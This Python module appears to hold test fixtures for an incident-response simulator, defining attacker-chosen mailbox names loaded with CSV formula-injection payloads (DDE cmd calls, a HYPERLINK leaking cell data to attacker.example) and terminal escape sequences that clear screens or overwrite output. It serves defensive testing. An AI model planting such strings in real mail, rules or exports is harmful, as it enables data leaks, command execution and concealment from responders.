"""The hostile variant of the compromised scenario: the attacker writes the strings a responder will open.

Every name an attacker chooses reaches the responder's spreadsheet and terminal: the subjects of the mail
it sends, its inbox rule's name, the folders it creates, its app's display name and its user agents.
Exchange Online and Entra ID accept all of these as written (a rule or folder name is any string up to its
length limit; a display name any Unicode; a user agent whatever the client sends), so the simulator
serves them unaltered. The strings are the published attacks: spreadsheet formulas (OWASP "CSV Injection":
``=HYPERLINK``, DDE ``=cmd|' /C calc'!A0``, ``+ - @`` and a leading tab/CR) and terminal escape sequences
(ESC CSI clearing the screen and moving the cursor, OSC setting the window title, C1 CSI) plus rich
markup that a careless console would interpret.
"""

from __future__ import annotations

from dataclasses import dataclass

ESC, BEL, CSI_C1 = "\x1b", "\x07", "\x9b"

FORMULA_SUBJECTS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Invoice details")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 invoice",
    "\r=1+1 payment",
)
TERMINAL_ATTACKS = (
    f"{ESC}]0;owned{BEL}",  # OSC 0: set the window title
    f"{ESC}[2J{ESC}[H",  # CSI: clear the screen, cursor home
    f"{ESC}[1A{ESC}[2K",  # CSI: cursor up one line, erase it (overwrites an earlier finding line)
    f"{CSI_C1}31m",  # C1 CSI (8-bit): red
)


@dataclass(frozen=True)
class AttackerNames:
    """The names the attacker chooses (the benign story's defaults)."""

    app: str = "MailSync Connector"
    rule: str = "."
    file_user_agent: str = "python-requests/2.32"
    hidden_folder: str | None = None  # a folder it creates in the victim's Inbox (and syncs), if any
    subjects: tuple[str, ...] = ()  # subjects of mail in the victim's mailbox, if any


HOSTILE_NAMES = AttackerNames(
    app=f"=HYPERLINK(\"http://attacker.example\",\"MailSync\"){ESC}]0;owned{BEL} [bold]Connector[/]",
    rule=f"{ESC}[2J{ESC}[H=cmd|' /C calc'!A0 [red]rule[/] {ESC}]0;owned{BEL}{ESC}[1A{ESC}[2K{CSI_C1}31m",
    file_user_agent=f"=cmd|' /C calc'!A0 {ESC}[2J python-requests/2.32",
    hidden_folder=f"\\Inbox\\@SUM(1+1)*cmd|' /C calc'!A0{ESC}]0;owned{BEL}",
    subjects=FORMULA_SUBJECTS + tuple(f"Invoice {attack}due" for attack in TERMINAL_ATTACKS),
)
